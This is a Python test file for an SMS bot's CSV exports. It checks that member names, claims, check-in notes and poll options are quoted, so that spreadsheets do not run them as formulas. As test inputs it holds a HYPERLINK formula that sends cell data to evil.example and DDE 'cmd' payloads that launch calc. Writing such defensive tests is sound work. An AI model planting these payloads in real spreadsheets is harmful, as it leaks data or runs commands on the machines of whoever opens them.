"""Every CSV copro writes opens right in a spreadsheet: UTF-8 with a BOM (Welsh letters intact),
no cell a spreadsheet would run as a formula, and receipts in a folder the CSV names."""

from __future__ import annotations

import asyncio
import csv
import getpass
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

from bot.app.wiring import scheduler_for
from bot.core.config import load_config
from bot.flowfiles.library import Library
from bot.host.conversations import Conversations
from storage.db import Database
from tests.cli.test_cli_records import copro, env  # noqa: F401 (the fixture)
from tests.people import group, member

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ACTIVITY = "+cmd|' /C calc'!A0 Cyfarfod â'r bwrdd"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGER = ("=", "+", "-", "@", "\t", "\r")


def photograph(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"\xff\xd8 a bus ticket")
    return path


async def _mischief(url: str, data: Path) -> None:
    """A member whose name, claim and check-in note are formulas; the claim has a receipt photo."""
    db = Database(url)
    try:
        config = load_config(None, env={"COPRO_DATA_DIR": str(data)})
        c = Conversations(db, Library.load(), config)
        await c.register_flows()
        scheduler_for(c, config)
        riverside = await group(db)
        await member(db, riverside, "+447700900001", name=NAME)
        receipt = photograph(data / "media" / "sms" / "SM1-1.jpg")
        for text in ("expense", "1", "3.40", "today", ACTIVITY):
            await c.receive("sms", "+447700900001", text)
        await c.receive("sms", "+447700900001", "", media=(str(receipt),))
        for text in ("2", "yes", "check in", "6", "5", "4", "7", "often", NOTE):
            await c.receive("sms", "+447700900001", text)
    finally:
        await db.close()


def cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_every_csv_has_a_bom_and_no_cell_a_spreadsheet_would_run(
    env: dict[str, str], tmp_path: Path  # noqa: F811
) -> None:
    asyncio.run(_mischief(env["COPRO_DATABASE_URL"], Path(env["COPRO_DATA_DIR"])))
    closes = f"{datetime.now(UTC) + timedelta(days=3):%Y-%m-%d} 17:00"
    assert copro(env, "polls", "add", "--group", "Riverside Voices", "--question", "Which?",
                 "--option", "-2+3", "--option", "@home", "--welsh-question", "Pa un?",
                 "--welsh-option", "-2+3", "--welsh-option", "@gartref", "--closes", closes
                 ).exit_code == 0
    assert copro(env, "claims", "approve", "1").exit_code == 0
    out = tmp_path / "claims.csv"
    copro(env, "claims", "export", "--output", str(out))
    sheets = {
        "claims": cells(out.read_bytes()),
        "results": cells(copro(env, "results", "export", "--group", "Riverside Voices")
                         .stdout_bytes),
        "poll": cells(copro(env, "polls", "results", "1", "--csv").stdout_bytes),
    }
    for name, rows in sheets.items():
        assert len(rows) >= 2, name
        for row in rows:
            assert not [c for c in row if c.startswith(DANGER)], (name, row)
    # What the coordinator sees in the spreadsheet: the words as typed, after a quote.
    claim = dict(zip(sheets["claims"][0], sheets["claims"][1], strict=True))
    assert claim["claimant"] == "'" + NAME and claim["meeting"] == "'" + ACTIVITY
    # No coordinator goes by the login name: the login name is who decided.
    assert claim["decided_by"] == f"{getpass.getuser()} (command line)"
    assert claim["receipt_file"] == "claims-receipts/claim-1.jpg"
    assert (tmp_path / claim["receipt_file"]).read_bytes() == b"\xff\xd8 a bus ticket"
    note = dict(zip(sheets["results"][0], sheets["results"][1], strict=True))
    assert note["name"] == "'" + NAME and note["note"] == "'" + NOTE
    assert [r[0] for r in sheets["poll"][1:]] == ["'-2+3", "'@home"]
